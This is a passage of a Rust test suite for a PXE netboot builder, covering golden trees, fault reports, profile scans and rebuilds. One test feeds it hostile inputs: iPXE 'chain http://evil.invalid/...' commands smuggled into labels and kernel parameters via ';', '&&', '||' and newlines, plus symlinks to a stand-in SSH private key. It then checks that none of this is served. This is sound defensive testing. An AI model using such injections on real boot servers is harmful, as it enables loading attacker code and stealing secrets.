//! The netboot builder against real carried profiles: store paths built by real Nix
//! (busybox builder, no nixpkgs), profiles made by `nix-env --set`, and golden files of
//! both trees in `tests/fixtures/netboot/` (`CARRIER_BLESS=1` rewrites them).

mod common;

use std::path::{Path, PathBuf};
use std::sync::{Arc, Barrier};

use carrier_core::carrier::netboot::{self, FaultKind, NetbootConfig, RequestOutcome};
use carrier_core::carrier::profiles;
use common::*;
use serde_json::{Value, json};

/// Fixed creation times, so `time_s` is deterministic (rendered in UTC).
const T0: i64 = 1_704_103_200; // 2024-01-01 10:00:00 UTC
const DAY: i64 = 86_400;

/// One generation of a fixture machine.
struct Gen {
    /// Unique in the test; names the store paths.
    id: &'static str,
    /// `machine.json`; `"toplevel": "@"` is replaced by the generation's toplevel. None: no file.
    machine_json: Option<Value>,
    /// Raw `machine.json` text instead of `machine_json`.
    raw_json: Option<&'static str>,
    kernel: &'static str,
    squashfs: bool,
    kernel_params: Option<&'static str>,
    initrd: bool,
    /// More files, or files instead of the ones above with the same name.
    extra: Vec<(&'static str, Entry)>,
}

impl Gen {
    fn new(id: &'static str, machine_json: Value) -> Gen {
        Gen {
            id,
            machine_json: Some(machine_json),
            raw_json: None,
            kernel: "linux-6.1.0",
            squashfs: false,
            kernel_params: None,
            initrd: true,
            extra: Vec::new(),
        }
    }
}

/// Adds the kernels, then per generation a toplevel and a dist, to one batch.
fn add_generations(b: &mut Batch, gens: &[&Gen]) {
    for kernel in ["linux-6.1.0", "linux-6.6.1"] {
        b.add(kernel, &[("bzImage", Entry::text(format!("{kernel} kernel image")))]);
    }
    for g in gens {
        let toplevel = format!("nixos-system-{}", g.id);
        b.add(
            &toplevel,
            &[
                ("init", Entry::text("#!/bin/sh\n")),
                ("kernel", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel))),
            ],
        );
        let mut files: Vec<(&str, Entry)> =
            vec![("bzImage", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel)))];
        if g.initrd {
            files.push(("initrd", Entry::text(format!("initrd of {}", g.id))));
        }
        if let Some(mut j) = g.machine_json.clone() {
            if j.get("toplevel") == Some(&json!("@")) {
                j["toplevel"] = json!(format!("{{{{{toplevel}}}}}"));
            }
            files.push(("machine.json", Entry::text(serde_json::to_string(&j).unwrap())));
        } else if let Some(raw) = g.raw_json {
            files.push(("machine.json", Entry::text(raw)));
        }
        if g.squashfs {
            files.push(("root.squashfs", Entry::text(format!("squashfs of {}", g.id))));
        }
        if let Some(p) = g.kernel_params {
            files.push(("kernel-params", Entry::text(p)));
        }
        for (name, entry) in &g.extra {
            files.retain(|(n, _)| n != name);
            files.push((name, entry.clone()));
        }
        b.add(&format!("dist-{}", g.id), &files);
    }
}

/// A carrier in a temporary directory: profiles, syslinux files, memtest, ISO images.
struct Carrier {
    dir: tempfile::TempDir,
}

impl Carrier {
    fn new() -> Carrier {
        let c = Carrier { dir: tempfile::tempdir().unwrap() };
        // Debian's layout: pxelinux.0, the .c32 modules and memdisk in three directories.
        let dirs = [
            ("PXELINUX", &["pxelinux.0"][..]),
            (
                "syslinux/modules/bios",
                &["ldlinux.c32", "libcom32.c32", "libutil.c32", "menu.c32", "reboot.c32"][..],
            ),
            ("syslinux", &["memdisk"][..]),
        ];
        for (d, files) in dirs {
            let d = c.path().join("usr-lib").join(d);
            std::fs::create_dir_all(&d).unwrap();
            for f in files {
                std::fs::write(d.join(f), format!("{f} (syslinux stand-in)")).unwrap();
            }
        }
        std::fs::create_dir_all(c.path().join("memtest86plus")).unwrap();
        std::fs::write(c.path().join("memtest86plus/memtest.bin"), "memtest").unwrap();
        std::fs::create_dir_all(c.path().join("isos")).unwrap();
        std::fs::write(c.path().join("isos/debian-12.iso"), "iso").unwrap();
        std::fs::write(c.path().join("isos/rescue.iso"), "iso").unwrap();
        std::fs::create_dir_all(c.profiles()).unwrap();
        c
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn profiles(&self) -> PathBuf {
        self.path().join("profiles")
    }

    fn netboot(&self) -> PathBuf {
        self.path().join("netboot")
    }

    fn config_value(&self) -> Value {
        let lib = self.path().join("usr-lib");
        json!({
            "tftpRoot": self.netboot().join("tftp"),
            "httpRoot": self.netboot().join("http"),
            "hostName": "pxe-carrier",
            "httpUrl": "http://192.168.100.1",
            "syslinux": [lib.join("PXELINUX"), lib.join("syslinux/modules/bios"), lib.join("syslinux")],
            "memtest": {"package": self.path().join("memtest86plus"), "params": ["console=ttyS0,115200"]},
            "isoImages": [
                {"file": self.path().join("isos/debian-12.iso"), "label": "Debian 12"},
                {"file": self.path().join("isos/rescue.iso"), "label": ""}
            ],
            "profilesDir": self.profiles(),
            "lockFile": self.path().join("run/build-netboot-server.lock"),
            "timeZone": "UTC"
        })
    }

    fn config(&self) -> NetbootConfig {
        self.config_from(self.config_value())
    }

    fn config_from(&self, value: Value) -> NetbootConfig {
        let file = self.path().join("netboot.json");
        std::fs::write(&file, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
        NetbootConfig::load(&file).unwrap()
    }

    /// Sets each generation in order (generation 1, 2, …) with times T0 + i days.
    fn deploy(&self, alias: &str, dists: &[&PathBuf], first_time: i64) {
        for (i, d) in dists.iter().enumerate() {
            let n = set_profile(&self.profiles(), alias, d);
            set_link_time(
                &generation_link(&self.profiles(), alias, n),
                first_time + i as i64 * DAY,
            );
        }
    }

    /// A dump of a tree as clients see it (object links followed), with paths masked.
    fn dump(&self, root: &str, report: &netboot::BuildReport) -> String {
        let tmp = self.path().display().to_string();
        let tftp_name = report.tftp_dir.file_name().unwrap().to_string_lossy().into_owned();
        let http_name = report.http_dir.file_name().unwrap().to_string_lossy().into_owned();
        dump_tree(
            &self.netboot().join(root),
            &|t: &Path| t.starts_with("..") && t.to_string_lossy().contains(".objects/"),
            &[(&tmp, "<tmp>"), (&tftp_name, "tftp.<random>"), (&http_name, "http.<random>")],
        )
    }

    fn entries(&self, dir: &Path) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    }
}

fn report_text(c: &Carrier, r: &netboot::BuildReport) -> String {
    let mut s = r.progress();
    s.push_str("faults:\n");
    for f in &r.faults {
        s.push_str(&format!("  - [{:?}] {f}\n", f.kind));
    }
    mask_store_hashes(&s).replace(&c.path().display().to_string(), "<tmp>")
}

fn nixos_json(fqdn: &str, version: &str, macs: &[&str]) -> Value {
    json!({
        "spin": "nixos", "fqdn": fqdn, "label": fqdn, "toplevel": "@", "version": version,
        "macs": macs, "kernelParams": ["console=ttyS0", "loglevel=4"]
    })
}

/// The main fixture: NixOS with the current generation not the newest, vpsAdminOS with
/// an alias containing `/`, a machine named only by its dashed profile name, memtest
/// and ISO images.
fn main_fixture() -> Carrier {
    let c = Carrier::new();
    let mut n1 = nixos_json(
        "nixos1.example.org",
        "24.05.20240101.aaaaaaa",
        &["52:54:00:10:00:11", "52:54:00:10:00:99"],
    );
    n1["revision"] = json!("0123456789abcdef0123456789abcdef01234567");
    n1["swpins-info"] = json!({"nixpkgs": {"rev": "0123456789abcdef"}});
    let g = [
        Gen::new("nixos1-a", n1),
        Gen::new(
            "nixos1-b",
            nixos_json(
                "nixos1.example.org",
                "24.05.20240201.bbbbbbb",
                &["52:54:00:10:00:11", "52-54-00-AA-BB-CC"],
            ),
        ),
        Gen::new(
            "nixos1-c",
            nixos_json("nixos1.example.org", "24.05.20240301.ccccccc", &["52:54:00:10:00:11"]),
        ),
    ];
    let os = |id, version: &str, kernel| Gen {
        squashfs: true,
        kernel_params: Some("quiet  panic=10\nhttproot=http://stale.invalid/root.squashfs\n"),
        kernel,
        ..Gen::new(
            id,
            json!({"spin": "vpsadminos", "fqdn": "node2.prg.example.org", "label": "node2.prg.example.org",
                   "toplevel": "@", "version": version, "macs": ["52:54:00:10:00:12"]}),
        )
    };
    let o = [
        os("node2-a", "24.01.0.1111111", "linux-6.1.0"),
        os("node2-b", "24.02.0.2222222", "linux-6.6.1"),
    ];
    let plain = Gen::new("web-2-a", json!({"toplevel": "@"}));
    let mut b = Batch::new();
    add_generations(&mut b, &[&g[0], &g[1], &g[2], &o[0], &o[1], &plain]);
    let p = b.build();
    let d = |id: &str| p[&format!("dist-{id}")].clone();
    c.deploy("nixos1", &[&d("nixos1-a"), &d("nixos1-b"), &d("nixos1-c")], T0);
    switch_generation(&c.profiles(), "nixos1", 2);
    c.deploy("os/node2", &[&d("node2-a"), &d("node2-b")], T0 + 10 * DAY);
    c.deploy("web-2", &[&d("web-2-a")], T0 + 20 * DAY);
    c
}

#[test]
fn golden_trees_nixos_and_vpsadminos() {
    let c = main_fixture();
    let report = netboot::build(&c.config()).unwrap();
    assert!(report.faults.is_empty(), "{:#?}", report.faults);
    assert_eq!(report.builds, 1);
    assert_eq!(
        report.machines.iter().map(|m| m.name.as_str()).collect::<Vec<_>>(),
        ["nixos1", "os:node2", "web-2"]
    );
    assert_golden("netboot/main/report.txt", &report_text(&c, &report));
    assert_golden("netboot/main/tftp.txt", &c.dump("tftp", &report));
    assert_golden("netboot/main/http.txt", &c.dump("http", &report));

    // The layout around the roots: two symlinks, two trees, two object stores.
    let tftp_tree = report.tftp_dir.file_name().unwrap().to_string_lossy().into_owned();
    let http_tree = report.http_dir.file_name().unwrap().to_string_lossy().into_owned();
    let mut expected = vec![
        "http".to_string(),
        http_tree.clone(),
        "http.objects".into(),
        "tftp".into(),
        tftp_tree.clone(),
        "tftp.objects".into(),
    ];
    expected.sort();
    assert_eq!(c.entries(&c.netboot()), expected);
    assert_eq!(std::fs::read_link(c.netboot().join("tftp")).unwrap(), PathBuf::from(&tftp_tree));
    assert_eq!(tftp_tree[5..], http_tree[5..], "one random suffix for both trees");

    // What upstream's VM test checks, through the root symlinks.
    let tftp = c.netboot().join("tftp");
    let http = c.netboot().join("http");
    assert!(tftp.join("pxelinux.cfg/01-52-54-00-10-00-11").exists());
    assert!(
        tftp.join("pxelinux.cfg/01-52-54-00-aa-bb-cc").exists(),
        "MACs normalised to lowercase"
    );
    assert!(
        std::fs::read_to_string(tftp.join("pxeserver/machines/nixos1.example.org/auto.cfg"))
            .unwrap()
            .contains("DEFAULT nixos1.example.org")
    );
    let machines: Value =
        serde_json::from_slice(&std::fs::read(http.join("machines.json")).unwrap()).unwrap();
    assert!(machines["machines"].as_array().unwrap().iter().any(|m| m["name"] == "os:node2"));
    let machine: Value = serde_json::from_slice(
        &std::fs::read(http.join("nixos1.example.org/machine.json")).unwrap(),
    )
    .unwrap();
    let current: Vec<&Value> = machine["generations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|g| g["current"] == true)
        .collect();
    assert_eq!(current.len(), 1);
    assert_eq!(current[0]["generation"], 2);
    let profile_real = std::fs::canonicalize(c.profiles().join("confctl-nixos1")).unwrap();
    assert_eq!(current[0]["store_path"], json!(profile_real.display().to_string()));
    assert!(http.join("nixos1.example.org/2/generation.json").exists());
    let cur = std::fs::canonicalize(http.join("nixos1.example.org/current")).unwrap();
    assert_eq!(cur.file_name().unwrap(), "2");
    let params = std::fs::read_to_string(http.join("nixos1.example.org/2/kernel-params")).unwrap();
    assert!(
        params.contains(&format!("init={}/init", current[0]["toplevel"].as_str().unwrap())),
        "{params}"
    );
    assert!(params.contains("httproot=http://192.168.100.1/"), "{params}");
    let os_params =
        std::fs::read_to_string(http.join("node2.prg.example.org/2/kernel-params")).unwrap();
    assert!(
        os_params
            .starts_with("httproot=http://192.168.100.1/node2.prg.example.org/2/root.squashfs "),
        "{os_params}"
    );
    // Boot files resolve to the store through the object links.
    let kernel = std::fs::canonicalize(tftp.join("boot/nixos1.example.org/3/bzImage")).unwrap();
    assert!(
        kernel.starts_with("/nix/store")
            && kernel.to_string_lossy().ends_with("-linux-6.1.0/bzImage")
    );
}

#[test]
fn golden_faults_leave_only_the_faulty_machines_out() {
    let c = Carrier::new();
    let gens = [
        Gen::new("good", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:01"])),
        Gen { machine_json: None, ..Gen::new("missing-json", json!(null)) },
        Gen {
            machine_json: None,
            raw_json: Some("{\"spin\": \"nixos\","),
            ..Gen::new("bad-json", json!(null))
        },
        Gen::new("no-toplevel", json!({"spin": "nixos", "fqdn": "no-toplevel.example.org"})),
        Gen::new("no-profile", nixos_json("no-profile.example.org", "1.0", &[])),
        Gen::new("elsewhere", nixos_json("elsewhere.example.org", "1.0", &[])),
        Gen::new("mac-dup", nixos_json("mac-dup.example.org", "1.0", &["52-54-00-00-00-01"])),
        Gen::new("fqdn-dup", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:99"])),
        Gen::new("openvz", json!({"spin": "openvz", "toplevel": "@"})),
        Gen {
            machine_json: None,
            raw_json: Some("not json"),
            ..Gen::new("old-bad-1", json!(null))
        },
        Gen::new("old-bad-2", nixos_json("old-bad.example.org", "2.0", &[])),
        Gen::new(
            "bad-mac",
            nixos_json("bad-mac.example.org", "1.0", &["zz:zz", "52:54:00:00:00:02"]),
        ),
        Gen {
            initrd: false,
            ..Gen::new("no-initrd", nixos_json("no-initrd.example.org", "1.0", &[]))
        },
        Gen { ..Gen::new("types", json!({"toplevel": "@", "macs": "52:54:00:00:00:03"})) },
    ];
    let mut b = Batch::new();
    add_generations(&mut b, &gens.iter().collect::<Vec<_>>());
    let p = b.build();
    let d = |id: &str| p[&format!("dist-{id}")].clone();
    c.deploy("good", &[&d("good")], T0);
    for (i, id) in
        ["missing-json", "bad-json", "no-toplevel", "openvz", "bad-mac", "no-initrd", "types"]
            .iter()
            .enumerate()
    {
        c.deploy(id, &[&d(id)], T0 + i as i64 * 60);
    }
    c.deploy("no-profile", &[&d("no-profile")], T0);
    std::fs::remove_file(profile_path(&c.profiles(), "no-profile")).unwrap();
    c.deploy("elsewhere", &[&d("elsewhere")], T0);
    let link = profile_path(&c.profiles(), "elsewhere");
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink(d("good"), &link).unwrap();
    // Deployed after "good": they lose the collisions.
    c.deploy("a-mac-dup", &[&d("mac-dup")], T0 + DAY);
    c.deploy("a-fqdn-dup", &[&d("fqdn-dup")], T0 + DAY);
    c.deploy("old-bad", &[&d("old-bad-1"), &d("old-bad-2")], T0);

    let report = netboot::build(&c.config()).unwrap();
    assert_golden("netboot/faults/report.txt", &report_text(&c, &report));
    assert_golden("netboot/faults/tftp.txt", &c.dump("tftp", &report));
    assert_golden("netboot/faults/http.txt", &c.dump("http", &report));

    let published: Vec<&str> = report.machines.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(published, ["bad-mac", "good", "old-bad"]);
    let kinds: Vec<(&str, FaultKind, bool)> =
        report.faults.iter().map(|f| (f.profile.as_str(), f.kind, f.left_out)).collect();
    assert_eq!(
        kinds,
        [
            ("a-fqdn-dup", FaultKind::FqdnCollision, true),
            ("a-mac-dup", FaultKind::MacCollision, true),
            ("bad-json", FaultKind::InvalidMachineJson, true),
            ("bad-mac", FaultKind::InvalidMac, false),
            ("elsewhere", FaultKind::NoCurrentGeneration, true),
            ("missing-json", FaultKind::MissingMachineJson, true),
            ("no-initrd", FaultKind::MissingBootFile, true),
            ("no-profile", FaultKind::NoCurrentGeneration, true),
            ("no-toplevel", FaultKind::InvalidMachineJson, true),
            ("old-bad", FaultKind::InvalidMachineJson, false),
            ("openvz", FaultKind::UnknownSpin, true),
            ("types", FaultKind::InvalidMachineJson, true),
        ]
    );
    // Messages name the file or the other profile.
    let msg = |p: &str| report.faults.iter().find(|f| f.profile == p).unwrap().to_string();
    assert!(
        msg("missing-json").contains("confctl-missing-json-1-link/machine.json"),
        "{}",
        msg("missing-json")
    );
    assert!(msg("no-toplevel").contains("field `toplevel`: missing"), "{}", msg("no-toplevel"));
    assert!(msg("types").contains("field `macs`: expected a list of strings"), "{}", msg("types"));
    assert!(
        msg("a-mac-dup").contains("MAC 52-54-00-00-00-01 is also a MAC of profile 'good'"),
        "{}",
        msg("a-mac-dup")
    );
    assert!(msg("a-fqdn-dup").contains("profile 'good'"), "{}", msg("a-fqdn-dup"));
    assert!(msg("openvz").contains("unknown spin 'openvz'"), "{}", msg("openvz"));
    assert!(msg("no-profile").contains("does not exist"), "{}", msg("no-profile"));
    assert!(
        msg("elsewhere").contains("which is none of its generations (1)"),
        "{}",
        msg("elsewhere")
    );
}

/// What a hostile dist tries to get into the served trees.
const INJECTED: &str = "evil.invalid";
const SECRET: &str = "SECRET-KEY-MATERIAL-4f1c";

/// Every file under `root` as a client reaches it (all symlinks followed) that contains
/// `needle`.
fn grep_served(root: &Path, needle: &str) -> Vec<PathBuf> {
    fn walk(
        dir: &Path,
        needle: &[u8],
        seen: &mut std::collections::HashSet<PathBuf>,
        hits: &mut Vec<PathBuf>,
    ) {
        let Ok(real) = std::fs::canonicalize(dir) else { return };
        if !seen.insert(real) {
            return;
        }
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            match std::fs::metadata(&path) {
                Ok(m) if m.is_dir() => walk(&path, needle, seen, hits),
                Ok(m) if m.is_file() => {
                    let bytes = std::fs::read(&path).unwrap();
                    if bytes.windows(needle.len()).any(|w| w == needle) {
                        hits.push(path);
                    }
                }
                _ => {}
            }
        }
    }
    let mut hits = Vec::new();
    walk(root, needle.as_bytes(), &mut std::collections::HashSet::new(), &mut hits);
    hits
}

/// Dists written by someone hostile: commands in every rendered field, files that are
/// symlinks to a secret of the carrier, a huge `machine.json`. Each such machine (or
/// generation) is left out and named; the others are served; neither served tree holds
/// the injected commands or the secret.
#[test]
fn hostile_dists_are_left_out_and_nothing_leaks() {
    let c = Carrier::new();
    let secret_dir = c.path().join("secret");
    std::fs::create_dir(&secret_dir).unwrap();
    let secret_key = secret_dir.join("id_ed25519");
    std::fs::write(&secret_key, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n"))
        .unwrap();
    let secret_json = secret_dir.join("machine.json");
    std::fs::write(
        &secret_json,
        json!({"toplevel": "/nix/store/00000000000000000000000000000000-x", "label": SECRET})
            .to_string(),
    )
    .unwrap();
    let key = secret_key.display().to_string();

    let with = |id: &'static str, field: &str, value: Value| {
        let mut j = nixos_json(&format!("{id}.example.org"), "1.0", &[]);
        j[field] = value;
        Gen::new(id, j)
    };
    let link = |name: &'static str, target: &str| vec![(name, Entry::link(target))];
    let cmd = |n: &str| format!("chain http://{INJECTED}/{n}.ipxe");
    // A valid machine.json padded beyond what is read.
    let mut huge = nixos_json("huge-json.example.org", "1.0", &[]);
    huge["toplevel"] = json!("{{nixos-system-huge-json}}");
    huge["padding"] = json!(" ".repeat(1 << 20));
    let gens = vec![
        Gen::new("good", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:01"])),
        with("label-semicolon", "label", json!(format!("Rescue ; {}", cmd("a")))),
        with("label-and", "label", json!(format!("x && {}", cmd("b")))),
        with("label-or", "label", json!(format!("x || {}", cmd("c")))),
        with("label-hash", "label", json!(format!("{INJECTED} #comment"))),
        with("label-expand", "label", json!(format!("${{{INJECTED}}}"))),
        with(
            "label-newline",
            "label",
            json!(format!("x\nLABEL evil\n  KERNEL http://{INJECTED}/k")),
        ),
        with(
            "params-json",
            "kernelParams",
            json!(["console=ttyS0", format!("quiet ; {}", cmd("d"))]),
        ),
        with(
            "params-newline",
            "kernelParams",
            json!([format!("quiet\n  APPEND http://{INJECTED}/")]),
        ),
        Gen {
            kernel_params: Some("quiet && chain http://evil.invalid/e"),
            ..with("params-file", "label", json!("p"))
        },
        with(
            "toplevel",
            "toplevel",
            json!(format!("{{{{nixos-system-toplevel}}}} || {}", cmd("f"))),
        ),
        with(
            "toplevel-newline",
            "toplevel",
            json!(format!("{{{{nixos-system-toplevel-newline}}}}\n{}", cmd("g"))),
        ),
        with("version", "version", json!(format!("24.05 ; {}", cmd("h")))),
        with("revision", "revision", json!(format!("abc${{{INJECTED}}}"))),
        with("revision-newline", "revision", json!(format!("abc\n{}", cmd("i")))),
        // The kernel version comes from the target of `<toplevel>/kernel`.
        with("kernel-version", "toplevel", json!("{{nixos-system-evil-kernel}}")),
        Gen { extra: link("kernel-params", &key), ..with("secret-params", "label", json!("sp")) },
        Gen { extra: link("bzImage", &key), ..with("secret-bzimage", "label", json!("sb")) },
        Gen {
            machine_json: None,
            extra: link("machine.json", &secret_json.display().to_string()),
            ..Gen::new("secret-json", json!(null))
        },
        Gen {
            machine_json: None,
            extra: vec![("machine.json", Entry::text(huge.to_string()))],
            ..Gen::new("huge-json", json!(null))
        },
        Gen {
            extra: link("kernel-params", &key),
            ..Gen::new("old-hostile-1", nixos_json("old-hostile.example.org", "1.0", &[]))
        },
        Gen::new(
            "old-hostile-2",
            nixos_json("old-hostile.example.org", "2.0", &["52:54:00:00:00:02"]),
        ),
    ];
    let mut b = Batch::new();
    add_generations(&mut b, &gens.iter().collect::<Vec<_>>());
    let evil_kernel = format!(
        "/nix/store/00000000000000000000000000000000-linux-6.1 ; chain {INJECTED}.ipxe /bzImage"
    );
    b.add(
        "nixos-system-evil-kernel",
        &[("init", Entry::text("")), ("kernel", Entry::link(evil_kernel))],
    );
    let p = b.build();
    let d = |id: &str| p[&format!("dist-{id}")].clone();
    let hostile: Vec<&str> = gens
        .iter()
        .map(|g| g.id)
        .filter(|id| !["good", "old-hostile-1", "old-hostile-2"].contains(id))
        .collect();
    c.deploy("good", &[&d("good")], T0);
    for (i, id) in hostile.iter().enumerate() {
        c.deploy(id, &[&d(id)], T0 + 60 * (i as i64 + 1));
    }
    c.deploy("old-hostile", &[&d("old-hostile-1"), &d("old-hostile-2")], T0);

    let report = netboot::build(&c.config()).unwrap();
    let published: Vec<&str> = report.machines.iter().map(|m| m.name.as_str()).collect();
    assert_eq!(published, ["good", "old-hostile"], "{}", report.summary());
    for id in &hostile {
        let fault = report.faults.iter().find(|f| f.profile == *id);
        assert!(
            fault.is_some_and(|f| f.left_out),
            "profile '{id}' is not reported as left out: {fault:?}"
        );
    }
    let old = report.machines.iter().find(|m| m.name == "old-hostile").unwrap();
    assert_eq!(old.generations.iter().map(|g| g.number).collect::<Vec<_>>(), [2]);
    let old_fault = report.faults.iter().find(|f| f.profile == "old-hostile").unwrap();
    assert_eq!((old_fault.generation, old_fault.left_out), (Some(1), false), "{old_fault}");

    for root in ["tftp", "http"] {
        let root = c.netboot().join(root);
        for needle in [INJECTED, SECRET] {
            let hits = grep_served(&root, needle);
            assert!(hits.is_empty(), "'{needle}' is served from {hits:?}");
        }
    }
    // Faults name the file and never quote the secret.
    for f in &report.faults {
        assert!(!f.message.contains(SECRET), "{f}");
    }
    let kind =
        |p: &str| format!("{:?}", report.faults.iter().find(|f| f.profile == p).unwrap().kind);
    let msg = |p: &str| report.faults.iter().find(|f| f.profile == p).unwrap().to_string();
    for id in ["secret-params", "secret-bzimage", "secret-json"] {
        assert_eq!(kind(id), "OutsideStore", "{}", msg(id));
        assert!(
            msg(id).contains(&key) || msg(id).contains(&secret_json.display().to_string()),
            "{}",
            msg(id)
        );
    }
    assert!(
        msg("secret-params").contains("confctl-secret-params-1-link/kernel-params"),
        "{}",
        msg("secret-params")
    );
    assert_eq!(kind("huge-json"), "TooLarge", "{}", msg("huge-json"));
    assert!(
        msg("huge-json").contains("confctl-huge-json-1-link/machine.json"),
        "{}",
        msg("huge-json")
    );
    for id in hostile.iter().filter(|id| !id.starts_with("secret-") && **id != "huge-json") {
        assert_eq!(kind(id), "InvalidValue", "{}", msg(id));
    }
    assert!(msg("label-semicolon").contains("field `label`"), "{}", msg("label-semicolon"));
    assert!(
        msg("params-file").contains("confctl-params-file-1-link/kernel-params"),
        "{}",
        msg("params-file")
    );
    assert!(msg("params-json").contains("field `kernelParams`"), "{}", msg("params-json"));
    assert!(msg("toplevel").contains("field `toplevel`"), "{}", msg("toplevel"));
    assert_golden("netboot/hostile/report.txt", &report_text(&c, &report));
    assert_golden("netboot/hostile/tftp.txt", &c.dump("tftp", &report));
    assert_golden("netboot/hostile/http.txt", &c.dump("http", &report));
}

#[test]
fn profiles_scan_reads_real_nix_profiles() {
    let c = Carrier::new();
    let gens = [
        Gen::new("scan-a", nixos_json("a.example.org", "1.0", &[])),
        Gen::new("scan-b", nixos_json("b.example.org", "2.0", &[])),
    ];
    let mut b = Batch::new();
    add_generations(&mut b, &[&gens[0], &gens[1]]);
    let p = b.build();
    let (a, bb) = (&p["dist-scan-a"], &p["dist-scan-b"]);
    // A, B, A: three generations, two of them with the same store path.
    c.deploy("my-node-2", &[a, bb, a], T0);
    c.deploy("os/node", &[bb], T0);
    std::fs::write(c.profiles().join("confctl-stray"), "").unwrap();
    std::os::unix::fs::symlink(a, c.profiles().join("system-1-link")).unwrap();

    let scanned = profiles::scan(&c.profiles()).unwrap();
    assert_eq!(
        scanned.iter().map(|p| p.name.as_str()).collect::<Vec<_>>(),
        ["my-node-2", "os:node"]
    );
    let p0 = &scanned[0];
    assert_eq!(p0.generations.iter().map(|g| g.number).collect::<Vec<_>>(), [1, 2, 3]);
    assert_eq!(p0.current().unwrap().number, 3, "the generation the profile link names");
    assert_eq!(p0.generations[0].store_path, **a);
    assert_eq!(p0.store_path.as_ref(), Some(a));
    assert_eq!(
        p0.generations.iter().map(|g| g.time).collect::<Vec<_>>(),
        [T0, T0 + DAY, T0 + 2 * DAY]
    );
    let mj = p0.read_machine_json(&p0.generations[1]).unwrap();
    assert_eq!(mj.fqdn.as_deref(), Some("b.example.org"));
    assert!(
        mj.toplevel.starts_with("/nix/store/") && mj.toplevel.ends_with("-nixos-system-scan-b")
    );
    assert_eq!(mj.shortrev().as_deref(), Some("0"));

    switch_generation(&c.profiles(), "my-node-2", 1);
    let scanned = profiles::scan(&c.profiles()).unwrap();
    assert_eq!(
        scanned[0].current().unwrap().number,
        1,
        "not the newest, and not generation 3 with the same path"
    );

    std::fs::remove_file(profile_path(&c.profiles(), "os/node")).unwrap();
    let scanned = profiles::scan(&c.profiles()).unwrap();
    assert_eq!(scanned[1].current(), None);
    assert_eq!(scanned[1].store_path, None);

    let err = profiles::scan(&c.path().join("nope")).unwrap_err().to_string();
    assert!(err.contains("cannot read the profiles directory") && err.contains("/nope"), "{err}");
}

#[test]
fn rebuild_renders_only_the_changed_machine() {
    let c = main_fixture();
    let cfg = c.config();
    let first = netboot::build(&cfg).unwrap();
    assert_eq!((first.machines_rendered, first.machines_reused), (3, 0));
    // Per-machine objects, and the shared directories (pxelinux.cfg/ and ipxe/ of the
    // TFTP tree, ipxe/ of the HTTP tree) named d-<hash>.
    let objects = |side: &str| {
        let all = c.entries(&c.netboot().join(format!("{side}.objects")));
        let all: Vec<&String> = all.iter().filter(|e| *e != "index").collect();
        let shared = all.iter().filter(|e| e.starts_with("d-")).count();
        (all.len() - shared, shared)
    };
    assert_eq!((objects("tftp"), objects("http")), ((3, 2), (3, 1)));

    let unchanged = netboot::build(&cfg).unwrap();
    assert_eq!((unchanged.machines_rendered, unchanged.machines_reused), (0, 3));
    assert_eq!(
        c.dump("http", &unchanged),
        c.dump("http", &first).replace(
            first.http_dir.file_name().unwrap().to_str().unwrap(),
            unchanged.http_dir.file_name().unwrap().to_str().unwrap()
        )
    );
    assert_ne!(unchanged.tftp_dir, first.tftp_dir, "a new tree is published");
    assert!(
        first.tftp_dir.is_dir() && first.http_dir.is_dir(),
        "the previous trees are kept as the spares"
    );

    let g = Gen::new("web-2-b", json!({"toplevel": "@", "version": "2"}));
    let mut b = Batch::new();
    add_generations(&mut b, &[&g]);
    let d = b.build()["dist-web-2-b"].clone();
    c.deploy("web-2", &[&d], T0 + 30 * DAY);
    let second = netboot::build(&cfg).unwrap();
    assert_eq!((second.machines_rendered, second.machines_reused), (1, 2));
    assert_eq!(
        (&second.tftp_dir, &second.http_dir),
        (&first.tftp_dir, &first.http_dir),
        "the spares are patched"
    );
    let trees = |c: &Carrier, r: &netboot::BuildReport| (c.dump("tftp", r), c.dump("http", r));
    let patched = trees(&c, &second);
    // A patched tree is exactly what a build from nothing writes.
    std::fs::remove_dir_all(c.netboot()).unwrap();
    let fresh = netboot::build(&cfg).unwrap();
    assert_eq!((fresh.machines_rendered, fresh.machines_reused), (3, 0));
    assert_eq!(trees(&c, &fresh), patched);
    assert_eq!(
        (objects("tftp"), objects("http")),
        ((3, 2), (3, 1)),
        "the replaced object is collected"
    );
    let web = second.machines.iter().find(|m| m.name == "web-2").unwrap();
    assert_eq!(
        web.generations.iter().map(|g| (g.number, g.current)).collect::<Vec<_>>(),
        [(2, true), (1, false)]
    );
    let http = c.netboot().join("http");
    assert_eq!(std::fs::read_link(http.join("web-2/current")).unwrap(), PathBuf::from("2"));

    // A changed setting that appears in every machine's output renders everything again.
    let mut v = c.config_value();
    v["httpUrl"] = json!("http://pxe.example.org");
    let third = netboot::build(&c.config_from(v)).unwrap();
    assert_eq!((third.machines_rendered, third.machines_reused), (3, 0));
    let params = std::fs::read_to_string(http.join("web-2/2/kernel-params")).unwrap();
    assert!(params.starts_with("httproot=http://pxe.example.org/web-2/2/initrd "), "{params}");
}

/// The index is a cache: a damaged one, or one describing a `machines.json` that was
/// changed since, is not believed, and the trees come out the same.
#[test]
fn a_damaged_index_or_a_changed_machines_json_is_not_trusted() {
    let c = main_fixture();
    let cfg = c.config();
    let first = netboot::build(&cfg).unwrap();
    let want = (c.dump("tftp", &first), c.dump("http", &first));
    let index = c.netboot().join("http.objects/index");
    assert!(index.is_file());

    std::fs::write(&index, b"\x05garbage").unwrap();
    let second = netboot::build(&cfg).unwrap();
    assert_eq!(
        (second.machines_rendered, second.machines_reused),
        (0, 3),
        "objects are still reused"
    );
    assert_eq!((c.dump("tftp", &second), c.dump("http", &second)), want);
    assert_ne!(std::fs::read(&index).unwrap(), b"\x05garbage", "the index is written again");

